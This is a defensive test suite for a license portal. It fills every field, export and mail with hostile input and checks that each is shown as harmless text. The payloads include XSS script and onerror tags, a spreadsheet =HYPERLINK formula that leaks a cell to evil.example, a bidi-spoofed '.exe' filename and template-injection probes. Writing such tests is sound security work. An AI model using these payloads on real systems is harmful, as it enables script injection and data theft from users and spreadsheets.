/**
 * Whatever people and order files put into a field is shown as text: mark-up, formulas, turned directions and words
 * without end, on every page that shows them, in exports and in mails. Nothing of it runs, nothing breaks the layout.
 */
import assert from 'node:assert/strict'
import type { Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, suite, test } from 'node:test'
import { createAdaptorServer } from '@hono/node-server'
import { parse } from 'csv-parse/sync'
import type { Browser, Page } from 'playwright-core'
import { createAccount, createOperator, findMemberByEmail } from '../src/accounts/index.ts'
import { addField, listFields, setFieldValues } from '../src/fields/index.ts'
import { activeSigner } from '../src/keys/index.ts'
import { addComment, saveSearch, tagLicenses } from '../src/licenses/index.ts'
import { importOrders } from '../src/orders/index.ts'
import { type Member, systemActor } from '../src/platform/actor.ts'
import { hashPassword } from '../src/platform/auth/index.ts'
import { uuidv7 } from '../src/platform/ids.ts'
import { saveProducts } from '../src/products/index.ts'
import { completeRegistration } from '../src/registration/index.ts'
import { answerRequest } from '../src/requests/index.ts'
import { askOther } from '../src/service/index.ts'
import { createCampaign, publish, publishCampaign } from '../src/upgrades/index.ts'
import { urls } from '../src/urls.ts'
import { buildAssets } from '../tools/vendor-assets.ts'
import { launchBrowser, overflowing, screens } from './browser.ts'
import { openPortal, type Portal, password, signedIn } from './portal.ts'
import { aVerifiedDraft } from './registering.ts'
import { anOperator } from './requests.ts'

/** Each begins with a sign of its own, so that what is left of it after cutting is found again. */
const hostile = {
  markup: `X1<b id="pwned">"'><script>document.title='pwned'</script><img src=x onerror="document.title='pwned'">&lt;`,
  formula: `=HYPERLINK("http://evil.example?"&A1,"X2"){{7*7}} $\{7*7} %s {count, plural, one {#}} {name} '{'`,
  bidi: `X3\u202Egnp.exe\u2066\u202D abc\u200F \u0627\u0644\u0639\u0631\u0628\u064A\u0629\u202E`,
  long: `X4${'W'.repeat(198)}`,
}
type Kind = keyof typeof hostile
const kinds = Object.keys(hostile) as Kind[]

type Made = {
  email: string
  member: Member
  serials: [registered: string, waiting: string]
  registration: string
  draft: string
  campaign: string
  request: string
}

suite('hostile content', () => {
  const ends: (() => unknown)[] = []
  let portal: Portal
  let server: Server
  let browser: Browser
  let origin: string
  const made = {} as Record<Kind, Made>

  before(async () => {
    await buildAssets()
    const scope = { after: (done: () => unknown) => void ends.push(done) }
    const env = { KEY_ENCRYPTION_KEY: Buffer.alloc(32, 5).toString('base64') }
    portal = await openPortal(scope, env)
    const password_hash = await hashPassword(password)
    for (const kind of kinds) made[kind] = await make(kind, password_hash)
    const operator = { email: 'operator@vendor.example', name: 'Op', role: 'administrator', password } as const
    await createOperator(portal.db, systemActor('test'), operator)
    server = createAdaptorServer({ fetch: portal.app.fetch }) as Server
    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening))
    origin = `http://localhost:${(server.address() as AddressInfo).port}`
    browser = await launchBrowser()
  })
  after(async () => {
    await browser?.close()
    server?.closeAllConnections()
    server?.close()
    for (const end of ends) await end()
  })

  /** An account, a product, an order, a registration and an open basket, with the text wherever text may stand. */
  async function make(kind: Kind, password_hash: string): Promise<Made> {
    const { db, config } = portal
    const system = systemActor('test')
    const text = (longest: number) => [...hostile[kind]].slice(0, longest).join('').trim()
    const n = kinds.indexOf(kind)
    const email = `${kind}@hostile.example`
    const person = { given_name: text(100), family_name: text(100), company: text(200), country: 'FR', phone: null }
    const login = { email, password_hash, confirmed: true, locale: 'en', time_zone: 'UTC' } as const
    await createAccount(db, system, { ...person, ...login })
    const member = (await findMemberByEmail(db, email, new Date()))!

    // Questions are the vendor's own words, which turn no direction.
    const title = kind === 'bidi' ? 'Question' : text(100)
    const question = { type: 'string', title, description: text(200), enum: [text(100), 'other'] }
    await saveProducts(db, system, [
      {
        ...{ code: `HOSTILE-${n}`, name: text(100), description: text(200), kind: 'product', meter: 'device' },
        ...{ key_scheme: 'file_host', host_types: ['dongle'], features: { [text(40)]: text(100) } },
        fields_schema: { type: 'object', properties: { answer: question }, required: ['answer'] },
        versions: [
          { version: text(20), released_on: '2026-01-01' },
          { version: `2 ${text(18)}`, released_on: '2026-02-01' },
        ],
      },
    ])
    const serials: Made['serials'] = [`M77000000${n}1`, `M77000000${n}2`]
    const order = {
      ...{ order_number: text(38), customer_number: text(40), customer_name: text(200), purchase_order: text(80) },
      ...{ reseller: text(200), certificate_number: text(40), contact_name: text(200), quantity: 2 },
      ...{ contact_email: `order-${kind}@hostile.example`, product_code: `HOSTILE-${n}`, version: text(20) },
      ...{ address_company: text(200), address_street: text(200), address_street2: text(200), address_city: text(100) },
      ...{ address_region: text(100), address_postal_code: text(20), address_country: 'FR' },
    }
    const rows = serials.map((serial_number, line) => ({ ...order, line: line + 1, serial_number }))
    const report = await importOrders(db, system, { bytes: Buffer.from(rawCsv(rows)) }, { name: text(100) })
    assert.deepEqual([report.created, report.rejected], [2, 0], kind)

    const { id: product_id } = await db
      .selectFrom('products')
      .select('id')
      .where('code', '=', `HOSTILE-${n}`)
      .executeTakeFirstOrThrow()
    const address = { company: text(200), street: text(200), street2: text(200), city: text(100), region: text(100) }
    const hosts = [{ type: 'dongle', id: `HK-${n}0001`, quantity: null }]
    const details = {
      registered_to: text(200),
      address: { ...address, postal_code: text(20), country: 'FR' },
      contacts: [{ name: text(200), email: `contact-${kind}@hostile.example`, phone: null }],
      products: { [product_id]: { hosts, fields: { answer: text(100) } } },
    }
    const basket = await aVerifiedDraft(db, member, [serials[0]], { details })
    const done = await completeRegistration(db, member, basket, { config, signer: await activeSigner(db, config) })
    assert.ok(done.ok, JSON.stringify(done))
    await note(member, serials[0], text)
    const { draft_id: draft } = await aVerifiedDraft(db, member, [serials[1]], { details })
    const campaign = await announce(product_id, text(200))
    const request = await ask(member, text)
    return { email, member, serials, registration: done.registration_id, draft, campaign, request }
  }

  /** A campaign from the one version to the other, of which customers were told. @returns its id. */
  async function announce(product_id: string, name: string): Promise<string> {
    const { db, config } = portal
    const system = systemActor('test')
    const versions = await db
      .selectFrom('product_versions')
      .select('id')
      .where('product_id', '=', product_id)
      .orderBy('released_on')
      .execute()
    const paths = [{ from_version_id: versions[0]!.id, to_version_id: versions[1]!.id }]
    const terms = {
      ...{ starts_on: '2026-01-01', ends_on: null, overlap_days: 30, notification_days: 365 },
      name,
      paths,
    }
    const saved = await createCampaign(db, system, {
      ...{ ...terms, needs_maintenance: false, kinds: ['product'], countries: [] },
    })
    assert.ok(saved.ok)
    const { campaign_id } = saved
    assert.ok((await publishCampaign(db, system, { campaign_id, revision: 1 }, config)).ok)
    await publish(portal.services, campaign_id)
    return campaign_id
  }

  /** The operators' pages that show what was entered. */
  async function pagesOfOperators({ campaign }: Made): Promise<string[]> {
    const { id: notification } = await portal.db
      .selectFrom('upgrade_notifications')
      .select('id')
      .where('campaign_id', '=', campaign)
      .executeTakeFirstOrThrow()
    const { admin } = urls
    const names = { campaign }
    return [
      admin.campaigns.to(),
      ...[admin.campaign, admin.editCampaign, admin.endCampaign, admin.eligible, admin.campaignReport].map((page) =>
        page.to(names),
      ),
      admin.notifications.to({ campaign }),
      admin.notification.to({ notification }),
    ]
  }

  /** What is asked of the vendor, said about it and attached to it, on both sides. */
  async function ask(member: Member, text: (longest: number) => string): Promise<string> {
    const { db, config } = portal
    const question = { type: 'other' as const, request_id: uuidv7(), description: text(5000), serials: [] }
    const { request: number } = await askOther({ db, config }, member, question)
    const robin = { ...(await anOperator(db)), name: text(200) }
    const message = { number, message_id: uuidv7(), body: text(5000), internal: false }
    assert.ok((await answerRequest({ db, config }, robin, message)).ok)
    const file = { id: uuidv7(), request_id: question.request_id, name: text(200), type: 'text/plain', size: 1 }
    await db
      .insertInto('request_files')
      .values({ ...file, uploaded_by: member.user_id, uploaded_at: new Date() })
      .execute()
    return number
  }

  /** What members themselves keep about a license. */
  async function note(member: Member, serial: string, text: (longest: number) => string) {
    const { db } = portal
    const { id } = await db.selectFrom('licenses').select('id').where('serial', '=', serial).executeTakeFirstOrThrow()
    const field = { name: text(80), type: 'choice' as const, choices: [text(80), 'other'] }
    assert.ok((await addField(db, member, { ...field, flags: ['in_catalog', 'searchable'] })).ok)
    const field_id = (await listFields(db, member))[0]!.id
    assert.ok((await setFieldValues(db, member, { license_ids: [id], values: { [field_id]: text(80) } })).ok)
    assert.ok((await tagLicenses(db, member, { license_ids: [id], add: [text(40)], remove: [] })).ok)
    await addComment(db, member, { license_id: id, comment_id: uuidv7(), body: text(5000) })
    await saveSearch(db, member, { name: text(80), query: `q=${encodeURIComponent(text(100))}`, for_all: 'on' })
  }

  /** The pages of an account that show what was entered. */
  function pagesOf({ serials, registration, draft, request }: Made): string[] {
    const { registration: wizard, licenses, accounts } = urls
    return [
      urls.home.to(),
      wizard.start.to(),
      wizard.serials.to({ draft }),
      wizard.details.to({ draft }),
      wizard.license.to({ draft, serial: serials[1] }),
      wizard.verify.to({ draft }),
      wizard.confirmation.to({ registration }),
      licenses.catalog.to(),
      licenses.show.to({ serial: serials[0] }),
      accounts.show.to(),
      wizard.purchases.to(),
      licenses.searches.to(),
      licenses.columns.to(),
      ...[licenses.tags, licenses.comments, licenses.contacts, licenses.address].map((page) =>
        page.to({ serial: serials[0] }),
      ),
      urls.fields.ofLicense.to({ serial: serials[0] }),
      urls.deployments.rehost.to({ serial: serials[0] }),
      urls.deployments.reissue.to({ serial: serials[0] }),
      urls.fields.list.to(),
      urls.customers.numbers.to(),
      urls.organizations.members.to(),
      urls.requests.show.to({ request }),
      urls.requests.choose.to(),
      urls.transfers.ownership.to({ serial: serials[0] }),
      urls.requests.recovery.to(),
    ]
  }

  async function signedInPage(kind: Kind, email = made[kind].email) {
    const visitor = await signedIn(portal, email)
    const context = await browser.newContext({ reducedMotion: 'reduce', viewport: screens.phone })
    await context.addCookies([...visitor.cookies].map(([name, value]) => ({ name, value, url: origin })))
    const page = await context.newPage()
    const complaints: string[] = []
    page.on('console', (message) => message.type() === 'error' && complaints.push(message.text()))
    page.on('pageerror', (error) => complaints.push(String(error)))
    page.on('dialog', (dialog) => void complaints.push(dialog.message()))
    return { context, page, complaints, visitor }
  }

  async function isHarmless(page: Page): Promise<void> {
    const where = page.url()
    assert.notEqual(await page.title(), 'pwned', where)
    assert.equal(await page.locator('#pwned, script:not([src]), img[src="x"]').count(), 0, where)
    assert.deepEqual(await page.evaluate(unisolated), [], where)
    for (const screen of [screens.phone, screens.wide]) {
      await page.setViewportSize(screen)
      // Scripts see the new size with the next frame.
      await page.evaluate(() => new Promise((seen) => requestAnimationFrame(() => requestAnimationFrame(seen))))
      assert.deepEqual(await overflowing(page), [], `${where} ${screen.width}`)
    }
  }

  for (const kind of kinds) {
    test(`every page shows ${kind} as text and keeps its layout`, async () => {
      await looksThrough(kind, await signedInPage(kind), pagesOf(made[kind]))
    })

    test(`every page of operators shows ${kind} as text and keeps its layout`, async () => {
      const operator = await signedInPage(kind, 'operator@vendor.example')
      await looksThrough(kind, operator, await pagesOfOperators(made[kind]))
    })
  }

  type SignedIn = Awaited<ReturnType<typeof signedInPage>>

  async function looksThrough(kind: Kind, { context, page, complaints }: SignedIn, paths: string[]): Promise<void> {
    const mark = [...hostile[kind]].slice(0, 18).join('')
    for (const path of paths) {
      const answer = await page.goto(`${origin}${path}`)
      assert.equal(answer?.status(), 200, path)
      const seen = await page.evaluate(() => {
        const typed = [...document.querySelectorAll('input, textarea')].map((each) => (each as HTMLInputElement).value)
        return [document.body.textContent, ...typed].join(' ')
      })
      assert.ok(seen.includes(mark), `${path} does not show ${mark}`)
      await isHarmless(page)
    }
    await context.close()
    assert.deepEqual(complaints, [])
  }

  test('operators read it as text, too', async () => {
    const robin = { email: 'robin@hostile.example', name: 'Robin', role: 'support' as const, password }
    await createOperator(portal.db, systemActor('test'), robin)
    const { context, page, complaints } = await signedInPage('markup', robin.email)
    for (const kind of kinds) {
      const mark = [...hostile[kind]].slice(0, 18).join('')
      for (const path of [urls.admin.request.to({ request: made[kind].request }), urls.admin.requests.to()]) {
        await page.goto(`${origin}${path}`)
        assert.ok((await page.textContent('body'))!.includes(mark), `${path} does not show ${mark}`)
        await isHarmless(page)
      }
    }
    await context.close()
    assert.deepEqual(complaints, [])
  })

  test('mails show it as text, with a subject of one line that runs in one direction', async () => {
    const mails = await portal.db.selectFrom('mails').select(['subject', 'html', 'text', 'to_name']).execute()
    assert.ok(mails.length >= 3 * kinds.length, `${mails.length} mails`)
    for (const { subject, html, text } of mails) {
      assert.doesNotMatch(html, /<script|<b id|<img|[\u202A-\u202E\u2066\u2067]/, subject)
      assert.doesNotMatch(`${subject}${text}`, /[\r\0\u202A-\u202E]/)
      assert.doesNotMatch(subject, /\n/)
    }
    assert.ok(mails.some(({ html }) => html.includes('&lt;script&gt;')))
    assert.ok(mails.some(({ text }) => text.includes('<script>')))
  })

  test('the mailbox of the demo shows mails harmlessly', async () => {
    const { context, page, complaints } = await signedInPage('markup')
    await page.goto(`${origin}${urls.dev.mailbox.to()}`)
    await isHarmless(page)
    const mails = await page
      .getByRole('table')
      .getByRole('link')
      .evaluateAll((links) => links.map((a) => (a as HTMLAnchorElement).href))
    for (const href of mails.slice(0, 6)) {
      await page.goto(href)
      await isHarmless(page)
    }
    await context.close()
    assert.deepEqual(complaints, [])
  })

  test('no cell of the list of keys is a formula', async () => {
    for (const kind of kinds) {
      const visitor = await signedIn(portal, made[kind].email)
      const csv = await visitor.get(urls.registration.csv.to({ registration: made[kind].registration }))
      const cells: string[] = parse(csv.html, { bom: true }).flat()
      assert.ok(cells.includes(made[kind].serials[0]))
      assert.deepEqual(
        cells.filter((cell) => /^[=+\-@\t\r]/.test(cell)),
        [],
        kind,
      )
    }
  })

  test('ten thousand letters in every field of a form are refused, and come back without breaking it', async () => {
    const { context, page, complaints } = await signedInPage('markup')
    const { draft, registration, serials } = made.markup
    const { registration: wizard, accounts } = urls
    const forms = [
      wizard.start.to(),
      wizard.details.to({ draft }),
      wizard.license.to({ draft, serial: serials[1] }),
      wizard.confirmation.to({ registration }),
      accounts.show.to(),
    ]
    for (const path of forms) {
      await page.goto(`${origin}${path}`)
      await flood(page)
      await isHarmless(page)
    }
    await context.clearCookies()
    for (const path of [accounts.create.to(), accounts.signIn.to(), accounts.forgot.to()]) {
      await page.goto(`${origin}${path}`)
      await flood(page)
      await isHarmless(page)
    }
    await context.close()
    assert.deepEqual(
      complaints.filter((text) => !/status of (401|422)/.test(text)),
      [],
    )
  })

  test('hostile questions in an address are answered without harm', async () => {
    const { context, page, complaints } = await signedInPage('markup')
    for (const q of [hostile.markup, hostile.bidi, 'W'.repeat(2000)]) {
      for (const path of [
        urls.licenses.catalog.to({ q }),
        urls.licenses.catalog.to({ q, status: q, product: q, after: q }),
      ]) {
        const answer = await page.goto(`${origin}${path}`)
        assert.ok([200, 400, 422].includes(answer?.status() ?? 0), `${answer?.status()} ${path.slice(0, 80)}`)
        await isHarmless(page)
      }
      await page.goto(`${origin}${urls.accounts.signIn.to({ next: q })}`)
      await isHarmless(page)
    }
    await context.close()
    assert.deepEqual(
      complaints.filter((text) => !/status of (400|422)/.test(text)),
      [],
    )
  })
})

/** As a system would write it that protects nobody: our own writer takes the sting out of formulas. */
function rawCsv(rows: Record<string, string | number>[]): string {
  const head = { order_date: '2026-11-01', country: 'FR', ...rows[0] }
  const lines = rows.map((row) => Object.values({ ...head, ...row }))
  const cell = (value: string | number) => `"${String(value).replaceAll('"', '""')}"`
  return [Object.keys(head), ...lines].map((cells) => `${cells.map(cell).join(',')}\r\n`).join('')
}

/** Fills every text field of the page's main form, past what its `maxlength` lets people type, and sends it. */
async function flood(page: Page): Promise<void> {
  const form = page.getByRole('main').locator('form.kp-form').first()
  await form.evaluate((element: HTMLFormElement) => {
    for (const field of element.querySelectorAll<HTMLInputElement>(
      'input:not([type=hidden], [type=radio], [type=file], [type=checkbox]), textarea',
    )) {
      field.removeAttribute('maxlength')
      field.value = '<b id="pwned">'.concat('W'.repeat(10_000))
    }
  })
  const answered = page.waitForEvent('load')
  await form.locator('button[type=submit]').last().click({ force: true })
  await answered
}

/** Texts with a turn of direction that could reach beyond themselves: they stand in a box of their own, or it is a defect. */
function unisolated(): string[] {
  const turned = /[\u202A-\u202E\u2066-\u2069]/
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT)
  const found: string[] = []
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    const parent = node.parentElement!
    const text = node.textContent ?? ''
    if (!turned.test(text)) continue
    const style = getComputedStyle(parent)
    const alone =
      parent.textContent === text && (style.display !== 'inline' || /isolate|plaintext/.test(style.unicodeBidi))
    const balanced = /\u2068[^\u2069]*\u2069/.test(text)
    if (!alone && !balanced) found.push(`${parent.tagName}.${parent.className}: ${JSON.stringify(text.slice(0, 80))}`)
  }
  return found
}
